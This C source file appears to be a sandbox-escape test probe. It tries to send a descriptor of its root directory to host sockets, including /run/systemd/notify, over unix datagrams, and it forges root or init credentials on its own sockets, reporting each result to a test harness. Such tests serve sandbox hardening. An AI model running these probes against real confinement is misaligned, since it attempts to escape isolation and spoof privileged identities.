/* class: network
 * what: sends a descriptor of its root directory to a host process over unix datagrams, and forges credentials (uid 0, pid 1) on its own sockets
 * outside: host_listener_untouched
 */
#include "attack.h"
#include <sys/socket.h>
#include <sys/un.h>

struct creds {
    int pid;
    unsigned uid, gid;
};

static long send_with(int s, void *data, size_t len, int type, struct sockaddr_un *to, socklen_t to_len)
{
    char control[64] = "", byte = 'x';
    struct iovec iov = { &byte, 1 };
    struct msghdr m = { .msg_name = to,
                        .msg_namelen = to_len,
                        .msg_iov = &iov,
                        .msg_iovlen = 1,
                        .msg_control = control,
                        .msg_controllen = CMSG_SPACE(len) };
    struct cmsghdr *c = CMSG_FIRSTHDR(&m);
    c->cmsg_level = SOL_SOCKET;
    c->cmsg_type = type;
    c->cmsg_len = CMSG_LEN(len);
    memcpy(CMSG_DATA(c), data, len);
    return sendmsg(s, &m, MSG_DONTWAIT);
}

int main(void)
{
    int root = open("/", O_PATH | O_DIRECTORY);
    const char *names[] = { param("abstract_name", "sandbox-agent-test-host"),
                            param("host_socket", "/run/systemd/notify") };
    for (int n = 0; n < 2; n++) {
        struct sockaddr_un a = { .sun_family = AF_UNIX };
        snprintf(a.sun_path + (n == 0), sizeof a.sun_path - 1, "%s-dgram", names[n]);
        socklen_t len = (socklen_t)(sizeof a.sun_family + (n == 0) + strlen(a.sun_path + (n == 0)));
        int s = socket(AF_UNIX, SOCK_DGRAM | SOCK_CLOEXEC, 0);
        if (s < 0) {
            refused("socket", errno);
            continue;
        }
        worked(n ? "path" : "abstract", send_with(s, &root, sizeof root, 1 /* SCM_RIGHTS */, &a, len));
        close(s);
    }
    int sv[2];
    if (socketpair(AF_UNIX, SOCK_STREAM, 0, sv) == 0) {
        struct creds forged[] = { { 1, getuid(), getgid() },
                                  { getpid(), 0, 0 },
                                  { getpid(), getuid() + 1, getgid() },
                                  { getppid() ? getppid() : 1, 0, 0 } };
        for (int i = 0; i < 4; i++) {
            if (forged[i].uid == getuid() && forged[i].pid == getpid())
                continue;
            worked("credentials", send_with(sv[0], &forged[i], sizeof forged[i], 2 /* SCM_CREDENTIALS */, NULL, 0));
        }
    } else
        refused("socketpair", errno);
    verdict();
}
